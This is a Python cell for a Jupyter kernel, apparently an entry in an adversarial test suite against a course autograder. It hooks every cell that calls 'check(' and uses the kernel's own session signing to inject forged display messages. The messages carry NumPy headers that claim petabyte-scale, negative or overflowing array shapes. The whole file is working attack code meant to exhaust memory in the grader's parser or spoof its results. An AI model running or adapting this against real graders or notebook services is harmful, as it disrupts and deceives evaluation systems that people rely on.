# attack: sends arrays of few bytes that say they are of petabytes
# verdict: graded
# marks: double_two=0 double_negative=2 noise_bounds=2
# %% after="double"
from IPython import get_ipython

kernel = get_ipython().kernel
session = kernel.session


def send(kind, content, parent=None, header=None):
    """Frames as the kernel sends them, with the content as it stands."""
    header = session.msg_header(kind) if header is None else header
    parts = [session.pack(header), session.pack(parent or kernel.get_parent()["header"]), b"{}", content]
    frames = [b"stream", b"<IDS|MSG>", session.sign(parts), *parts]
    kernel.iopub_socket.send_multipart(frames)


import base64
import json

SHAPES = ("(1125899906842624,)", "(4294967296, 4294967296)", "(0, 1125899906842624)", "(-1,)", "(1,) * 10**9", "(9999999999999999999999,)")


def forge(info):
    if "check(" in (info.raw_cell or ""):
        for shape in SHAPES:
            for kind in ("<f8", "<U999999999", "|V9", "<c16"):
                header = f"{{'descr': '{kind}', 'fortran_order': False, 'shape': {shape}, }}".ljust(117) + "\n"
                content = b"\x93NUMPY\x01\x00\x76\x00" + header.encode()
                record = {"name": "twice any", "value": {"npy": base64.b64encode(content).decode()}}
                shown = {"data": {"application/vnd.dlcourse.check+json": record}, "metadata": {}}
                send("display_data", json.dumps(shown).encode())


get_ipython().events.register("pre_run_cell", forge)
